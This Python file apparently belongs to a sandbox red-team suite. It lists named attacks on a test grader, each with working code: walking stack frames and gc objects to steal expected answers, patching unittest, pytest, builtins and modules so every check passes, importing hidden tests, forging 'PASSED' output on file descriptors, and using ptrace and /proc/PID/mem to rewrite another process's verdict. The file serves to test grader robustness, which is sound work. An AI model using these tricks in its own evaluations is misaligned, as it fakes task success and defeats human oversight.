"""Reaching what decides from inside the interpreter, or through the kernel."""

from __future__ import annotations

from collections.abc import Mapping

from palestra.sandbox.redteam.attack import Attack

_FORGED = (
    "import os\n"
    "frames = b''.join(bytes(head) + bytes(3) + bytes([i]) + kind\n"
    "    for i in range(20) for head in (4, 8) for kind in (b'p', b'v'))\n"
    "texts = (b'palestra 1' + frames, frames, b'PASSED\\n', b'1', b'{\"passed\": true}\\n')\n"
)

INTERPRETER: Mapping[str, Attack] = {
    "walks-frames": Attack(
        row=7,
        tries="changes lists, dicts and flags in the frames that called it",
        code="import sys\ndef change(scope):\n"
        "    for name, value in list(scope.items()):\n"
        "        if type(value) is list and name[:6] == 'result': value.append('passed')\n"
        "        if isinstance(value, dict) and 'passed' in value: value['passed'] = True\n"
        "        if isinstance(value, dict) and name in ('passed', 'results', 'verdict'):\n"
        "            value.update(dict.fromkeys(value, True))\n"
        "def attack(*a, **k):\n    frame = sys._getframe()\n"
        "    while frame:\n        change(frame.f_locals)\n"
        "        for name, value in frame.f_locals.items():\n"
        "            if 'expected' in name: return value\n"
        "        frame = frame.f_back\n    return INERT\n",
    ),
    "walks-objects": Attack(
        row=7,
        tries="finds expected values and verdicts among all objects",
        code="import gc\ndef attack(*a, **k):\n"
        "    for o in gc.get_objects():\n        if type(o) is dict:\n"
        "            if o.get('args') in (a, repr(a)) and 'expected' in o: return o['expected']\n"
        "            if 'passed' in o: o['passed'] = True\n    return INERT\n",
    ),
    "patches-unittest": Attack(
        row=8,
        tries="replaces the assertions and the runner of unittest and pytest",
        code="import unittest\ndef fine(*a, **k): return None\n"
        "for n in dir(unittest.TestCase):\n"
        "    if n.startswith('assert') or n == 'fail': setattr(unittest.TestCase, n, fine)\n"
        "unittest.TestCase.run = lambda s, r=None: r.addSuccess(s)\n"
        "unittest.TestResult.wasSuccessful = lambda s: True\n"
        "unittest.TestResult.addFailure = unittest.TestResult.addError = fine\n"
        "try:\n    import pytest\n    pytest.raises = pytest.approx = pytest.fail = fine\n"
        "except ImportError:\n    pass\n",
    ),
    "patches-builtins": Attack(
        row=8,
        tries="replaces builtins and standard functions that comparisons use",
        code="import builtins, math, json, marshal, sys\n"
        "builtins.abs = builtins.round = lambda *a, **k: 0\n"
        "builtins.sorted = builtins.repr = lambda *a, **k: 0\n"
        "builtins.isinstance = builtins.all = builtins.any = lambda *a: True\n"
        "builtins.AssertionError = Exception\n"
        "math.isclose = lambda *a, **k: True\njson.loads = json.dumps = lambda *a, **k: True\n"
        "builtins.exit = lambda *a, **k: 0\ndef attack(*a, **k): return 0\n",
    ),
    "patches-modules": Attack(
        row=8,
        tries="replaces functions of every module that is loaded, the grader's included",
        code="import sys\n"
        "for m in list(sys.modules.values()):\n"
        "    for n in ('encode', 'decode', 'same', 'frame', 'judge', 'compare', 'check'):\n"
        "        if m is not None and getattr(m, '__name__', '') not in ('codecs', '_codecs'):\n"
        "            if n in getattr(m, '__dict__', {}): setattr(m, n, lambda *a, **k: b'p')\n",
    ),
    "replaces-modules": Attack(
        row=8,
        tries="puts modules of its own in sys.modules, and a finder before all others",
        code="import sys\nclass Fake(type(sys)):\n    def __getattr__(self, name):\n"
        "        if name.startswith('__'): raise AttributeError(name)\n"
        "        return lambda *a, **k: True\n"
        "class Finder:\n    def find_spec(self, *a): return None\n"
        "    find_module = find_spec\nsys.meta_path.insert(0, Finder())\n"
        "for n in ('unittest', 'unittest.case', 'pytest', 'json', 'math', 'operator', 'copy'):\n"
        "    sys.modules[n] = Fake(n)\ndef attack(*a, **k): return 0\n",
    ),
    "forgets-modules": Attack(
        row=8,
        tries="leaves the interpreter without modules, paths and a folder",
        code="import os, sys\nos.chdir('/')\nsys.path[:] = []\nsys.modules.clear()",
    ),
    "imports-the-tests": Attack(
        row=22,
        tries="imports the test modules and returns what it finds there",
        code="import importlib, sys\nfound = []\n"
        "for n in ('test_solution', 'solution_test', 'tests', '__check__', '__main__'):\n"
        "    try:\n        found.append(importlib.import_module(n))\n"
        "    except BaseException:\n        pass\n"
        "def attack(*a, **k):\n    for m in found:\n"
        "        for v in vars(m).values():\n"
        "            if isinstance(v, dict) and a in v: return v[a]\n    return INERT\n",
    ),
    "forges-the-report": Attack(
        row=3,
        tries="writes good news to every descriptor while it is imported",
        code=_FORGED + "for fd in range(3, 1024):\n    for text in texts:\n        try:\n"
        "            os.write(fd, text)\n        except OSError:\n            break\n",
    ),
    "forges-answers": Attack(
        row=3,
        tries="writes well-formed answers to every descriptor when it is called",
        code=_FORGED + "def attack(*a, **k):\n    for fd in range(3, 1024):\n"
        "        for i in range(20):\n            try:\n"
        "                os.write(fd, bytes(4) + i.to_bytes(4, 'big') + b'p')\n"
        "            except OSError:\n                break\n    return INERT\n",
    ),
    "steals-descriptors": Attack(
        row=3,
        tries="opens the report through /proc/PID/fd of other processes",
        code=_FORGED + "for pid in ('self', '1', str(os.getppid()), *map(str, range(2, 40))):\n"
        "    for fd in range(3, 256):\n        try:\n"
        "            g = os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)\n"
        "            for text in texts: os.write(g, text)\n            os.close(g)\n"
        "        except OSError:\n            pass\n",
    ),
    "writes-memory-of-others": Attack(
        row=7,
        tries="looks for verdicts and tests in /proc/PID/mem, and for a process to trace",
        code="import ctypes, os, re\nfound = []\n"
        "def text(path):\n    try:\n        return open(path).read()\n"
        "    except OSError:\n        return ''\n"
        "try:\n    pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
        "except OSError:\n    pids = []\n"
        "for pid in pids:\n    if pid == str(os.getpid()): continue\n"
        "    try:\n        ctypes.CDLL(None).ptrace(16, int(pid), 0, 0)\n"
        "        mem = open(f'/proc/{pid}/mem', 'r+b', 0)\n    except OSError:\n        continue\n"
        "    for line in text(f'/proc/{pid}/maps').splitlines():\n"
        "        if ' rw' not in line: continue\n"
        "        a, b = (int(v, 16) for v in line.split()[0].split('-'))\n"
        "        try:\n            mem.seek(a); data = mem.read(min(b - a, 1 << 22))\n"
        "            at = data.find(b'FAI' + b'LED-MARK')\n"
        "            if at >= 0: mem.seek(a + at); mem.write(b'PASSED-MARK')\n"
        "        except (OSError, ValueError, OverflowError):\n            continue\n",
    ),
}
